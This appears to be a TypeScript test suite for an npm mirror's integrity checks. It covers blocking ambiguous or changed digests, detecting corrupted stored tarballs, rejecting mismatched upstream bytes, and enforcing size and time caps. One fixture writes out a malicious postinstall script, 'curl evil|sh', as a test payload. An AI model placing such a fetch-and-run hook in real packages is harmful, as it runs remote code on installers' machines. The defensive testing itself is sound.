import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readdirSync, rmSync, statSync, writeFileSync, chmodSync } from 'node:fs';
import { createHash, randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { startTestMirror, DAY, HOUR, visibleVersions } from '../helpers/mirror';
import { distOf, packTarball } from '../helpers/pack-tarball';
import { FakeUpstream } from '../helpers/fake-upstream';
import { dataPaths } from '../../storage';

const NOW = Date.parse('2026-11-20T12:00:00Z');

/** Every file under a folder, recursively. */
function filesUnder(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => join(e.parentPath ?? (e as unknown as { path: string }).path, e.name));
}

const tarballRequests = (requests: readonly string[], file: string): number =>
  requests.filter((r) => r.startsWith('GET ') && r.includes(`/-/${file}`)).length;

test('an integrity naming two different sha512 digests is refused at first sight: blocked with a finding, never listed or served', async () => {
  const m = await startTestMirror({ now: NOW });
  try {
    const payload = distOf(
      packTarball({ 'package.json': '{"name":"twin","version":"1.0.1","scripts":{"postinstall":"curl evil|sh"}}' }),
    ).integrity;
    m.upstream.publish('twin', '1.0.0', { time: NOW - 30 * DAY });
    const benign = m.upstream.publish('twin', '1.0.1', { time: NOW - HOUR });
    m.upstream.publish('twin', '1.0.1', { time: NOW - HOUR, dist: { integrity: `${benign.integrity} ${payload}` } });
    const old = m.upstream.publish('twin', '0.9.0', { time: NOW - 60 * DAY });
    m.upstream.publish('twin', '0.9.0', { time: NOW - 60 * DAY, dist: { integrity: `${payload} ${old.integrity}` } });

    assert.deepEqual(
      await visibleVersions(`${m.mirror.url}twin`),
      ['1.0.0'],
      'neither the young nor the old twin-digest version is listed',
    );
    for (const version of ['1.0.1', '0.9.0']) {
      const record = (await m.mirror.runtime.store.versions.versionOf('twin', version))!;
      assert.equal(record.state, 'blocked', version);
      assert.match(record.reason, /names 2 different sha512 digests/);
      const res = await fetch(`${m.mirror.url}twin/-/twin-${version}.tgz`);
      assert.equal(res.status, 403, version);
      assert.equal(((await res.json()) as { code: string }).code, 'BLOCKED');
      const status = (await (await fetch(`${m.mirror.url}-/cordon/api/v1/packages/twin`)).json()) as {
        versions: Array<{ version: string; findings: Array<{ rule: string; severity: string }> }>;
      };
      const findings = status.versions.find((v) => v.version === version)!.findings;
      assert.deepEqual(
        findings.map((f) => [f.rule, f.severity]),
        [['integrity/ambiguous-digest', 'critical']],
      );
    }
    await m.mirror.pipeline.drain();
    m.clock.advance(30 * DAY);
    assert.deepEqual(await visibleVersions(`${m.mirror.url}twin`), ['1.0.0'], 'time never releases it');
    assert.equal(tarballRequests(m.upstream.requests, 'twin-1.0.1.tgz'), 0, 'its bytes were never even fetched');
  } finally {
    await m.stop();
  }
});

test('a later packument that no longer shows exactly the pinned digest blocks the version, whatever its algorithms', async () => {
  const m = await startTestMirror({ now: NOW });
  try {
    const cases: Array<[string, (real: { integrity: string; shasum: string; tarball: Buffer }) => Record<string, unknown>]> = [
      ['sha1-only', (r) => ({ integrity: undefined, shasum: r.shasum })],
      ['sha256-only', (r) => ({ integrity: `sha256-${createHash('sha256').update(r.tarball).digest('base64')}`, shasum: undefined })],
      ['pin-plus-another', (r) => ({ integrity: `${r.integrity} ${distOf(Buffer.from('other')).integrity}` })],
      ['other-sha512', () => ({ integrity: distOf(Buffer.from('other')).integrity })],
    ];
    const names = cases.map(([name]) => name);
    for (const name of names) m.upstream.publish(name, '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('steady', '1.0.0', { time: NOW - 30 * DAY });
    for (const name of [...names, 'steady']) assert.deepEqual(await visibleVersions(`${m.mirror.url}${name}`), ['1.0.0'], name);
    for (const [name, change] of cases) {
      const real = m.upstream.publish(name, '1.0.0', { time: NOW - 30 * DAY });
      m.upstream.publish(name, '1.0.0', { time: NOW - 30 * DAY, dist: change(real) });
      m.upstream.publish(name, '1.0.1', { time: NOW - HOUR }); // keeps the package in the sweeper's list
    }
    m.upstream.publish('steady', '1.0.1', { time: NOW - HOUR });
    for (const name of [...names, 'steady']) await fetch(`${m.mirror.url}${name}`);
    await m.mirror.sweeper.runNow();
    for (const name of names) {
      const record = (await m.mirror.runtime.store.versions.versionOf(name, '1.0.0'))!;
      assert.equal(record.state, 'blocked', name);
      assert.ok(
        (await m.mirror.runtime.store.audit.ofPackage(name)).some((e) => e.version === '1.0.0' && e.cause === 'integrity-changed'),
        name,
      );
      assert.equal((await fetch(`${m.mirror.url}${name}/-/${name}-1.0.0.tgz`)).status, 403, name);
    }
    assert.equal(
      (await m.mirror.runtime.store.versions.versionOf('steady', '1.0.0'))!.state,
      'released',
      'an unchanged digest changes nothing',
    );
  } finally {
    await m.stop();
  }
});

test('tarballs come from the verified store: a corrupted stored file is detected, fetched again and never served', async () => {
  const upstream = await new FakeUpstream().start();
  const m = await startTestMirror({ now: NOW, upstream });
  try {
    const published = m.upstream.publish('tgz', '1.0.0', { time: NOW - 30 * DAY });
    const first = await fetch(`${m.mirror.url}tgz/-/tgz-1.0.0.tgz`);
    assert.equal(first.status, 200);
    assert.deepEqual(Buffer.from(await first.arrayBuffer()), published.tarball);
    const head = await fetch(`${m.mirror.url}tgz/-/tgz-1.0.0.tgz`, { method: 'HEAD' });
    assert.equal(head.headers.get('content-length'), String(published.tarball.length));
    assert.equal(tarballRequests(m.upstream.requests, 'tgz-1.0.0.tgz'), 1);

    const stored = filesUnder(join(dataPaths(m.dataDir).blobs, 'sha512'));
    assert.equal(stored.length, 1);
    assert.equal(statSync(stored[0]!).mode & 0o222, 0, 'verified files are read-only');
    // Restart so nothing is held in memory, then corrupt the file on disk (same size: a flipped byte).
    const dataDir = m.dataDir;
    await m.stop(false);
    const m2 = await startTestMirror({ now: NOW, dataDir, upstream: m.upstream });
    try {
      const tampered = Buffer.from(published.tarball);
      tampered[tampered.length - 1] ^= 0xff;
      chmodSync(stored[0]!, 0o644);
      writeFileSync(stored[0]!, tampered);
      const again = await fetch(`${m2.mirror.url}tgz/-/tgz-1.0.0.tgz`);
      assert.equal(again.status, 200);
      assert.deepEqual(Buffer.from(await again.arrayBuffer()), published.tarball, 'the good bytes, fetched again');
      assert.equal(tarballRequests(m.upstream.requests, 'tgz-1.0.0.tgz'), 2);
      assert.equal(
        (await m2.mirror.runtime.store.versions.versionOf('tgz', '1.0.0'))!.state,
        'released',
        'a bad disk is not a bad package',
      );
    } finally {
      await m2.stop();
      rmSync(dataDir, { recursive: true, force: true });
    }
  } finally {
    await upstream.stop();
  }
});

test('upstream bytes that contradict the pin are a 502 naming the version and block it, never a 200', async () => {
  const m = await startTestMirror({ now: NOW });
  try {
    m.upstream.publish('swap', '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('swap', '1.1.0', { time: NOW - 20 * DAY });
    assert.deepEqual(await visibleVersions(`${m.mirror.url}swap`), ['1.0.0', '1.1.0']);
    m.upstream.tarballOverrides.set(
      'swap-1.1.0.tgz',
      packTarball({ 'package.json': '{"name":"swap","version":"1.1.0","scripts":{"postinstall":"node x"}}' }),
    );
    const res = await fetch(`${m.mirror.url}swap/-/swap-1.1.0.tgz`);
    assert.equal(res.status, 502);
    const body = (await res.json()) as { code: string; error: string; package: string; version: string };
    assert.deepEqual([body.code, body.package, body.version], ['INTEGRITY_MISMATCH', 'swap', '1.1.0']);
    assert.match(body.error, /swap@1\.1\.0/);
    const record = (await m.mirror.runtime.store.versions.versionOf('swap', '1.1.0'))!;
    assert.equal(record.state, 'blocked');
    assert.ok(
      (await m.mirror.runtime.store.audit.ofPackage('swap')).some(
        (e) => e.version === '1.1.0' && e.cause === 'integrity-mismatch' && e.toState === 'blocked',
      ),
    );
    assert.equal((await fetch(`${m.mirror.url}swap/-/swap-1.1.0.tgz`)).status, 403, 'from then on it is refused');
    assert.deepEqual(await visibleVersions(`${m.mirror.url}swap`), ['1.0.0']);
    assert.deepEqual(filesUnder(join(dataPaths(m.dataDir).blobs, 'tmp')), [], 'nothing of the bad download is left');
  } finally {
    await m.stop();
  }
});

test('50 parallel first requests for one tarball download it once and all get the verified bytes', async () => {
  const m = await startTestMirror({ now: NOW });
  try {
    const published = m.upstream.publish('hot', '1.0.0', { time: NOW - 30 * DAY, files: { 'data.bin': randomBytes(300_000) } });
    await fetch(`${m.mirror.url}hot`);
    m.upstream.tarballDelayMs = 100;
    const answers = await Promise.all(
      Array.from({ length: 50 }, () =>
        fetch(`${m.mirror.url}hot/-/hot-1.0.0.tgz`).then(async (r) => ({ status: r.status, bytes: Buffer.from(await r.arrayBuffer()) })),
      ),
    );
    assert.deepEqual([...new Set(answers.map((a) => a.status))], [200]);
    for (const a of answers) assert.ok(a.bytes.equals(published.tarball));
    assert.equal(tarballRequests(m.upstream.requests, 'hot-1.0.0.tgz'), 1);
  } finally {
    await m.stop();
  }
});

test('an endless upstream tarball is cut off at the size cap, a stalled one at the time cap, and neither leaves a file', async () => {
  const m = await startTestMirror({ now: NOW, env: { CORDON_MAX_TARBALL_SIZE: '1mb', CORDON_TARBALL_TIMEOUT: '2s' } });
  try {
    m.upstream.publish('endless', '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('stalled', '1.0.0', { time: NOW - 30 * DAY });
    await fetch(`${m.mirror.url}endless`);
    await fetch(`${m.mirror.url}stalled`);
    m.upstream.endlessTarballs.add('endless-1.0.0.tgz');
    const clients = await Promise.all([1, 2, 3].map(() => fetch(`${m.mirror.url}endless/-/endless-1.0.0.tgz`)));
    for (const res of clients) {
      assert.equal(res.status, 502);
      assert.match(
        ((await res.json()) as { error: string }).error,
        /endless@1\.0\.0.*more than the 1048576 bytes allowed \(maxTarballSize\)/,
      );
    }
    m.upstream.tarballDelayMs = 10_000;
    const stalled = await fetch(`${m.mirror.url}stalled/-/stalled-1.0.0.tgz`);
    assert.equal(stalled.status, 503);
    assert.match(((await stalled.json()) as { error: string }).error, /stalled@1\.0\.0.*did not answer within 2000 ms/);
    const blobs = dataPaths(m.dataDir).blobs;
    assert.deepEqual(filesUnder(blobs), [], 'no partial file, no stored file');
    assert.equal(
      (await m.mirror.runtime.store.versions.versionOf('endless', '1.0.0'))!.state,
      'released',
      'a size cap is not a verdict on the bytes',
    );
  } finally {
    m.upstream.tarballDelayMs = 0;
    await m.stop();
  }
});

test('the analysis reads the bytes the mirror then serves: a version is downloaded once', async () => {
  const m = await startTestMirror({ now: NOW });
  try {
    m.upstream.publish('once', '1.0.0', { time: NOW - 30 * DAY });
    const young = m.upstream.publish('once', '1.1.0', { time: NOW - HOUR });
    await fetch(`${m.mirror.url}once`);
    await m.mirror.pipeline.drain();
    assert.equal((await m.mirror.runtime.store.versions.versionOf('once', '1.1.0'))!.analysis, 'clean');
    assert.equal(tarballRequests(m.upstream.requests, 'once-1.1.0.tgz'), 1);
    assert.equal(tarballRequests(m.upstream.requests, 'once-1.0.0.tgz'), 1);
    m.clock.advance(3 * DAY);
    const res = await fetch(`${m.mirror.url}once/-/once-1.1.0.tgz`);
    assert.equal(res.status, 200);
    assert.ok(Buffer.from(await res.arrayBuffer()).equals(young.tarball));
    assert.equal((await fetch(`${m.mirror.url}once/-/once-1.0.0.tgz`)).status, 200);
    assert.equal(tarballRequests(m.upstream.requests, 'once-1.1.0.tgz'), 1, 'served from the bytes the analysis verified');
    assert.equal(tarballRequests(m.upstream.requests, 'once-1.0.0.tgz'), 1);
  } finally {
    await m.stop();
  }
});
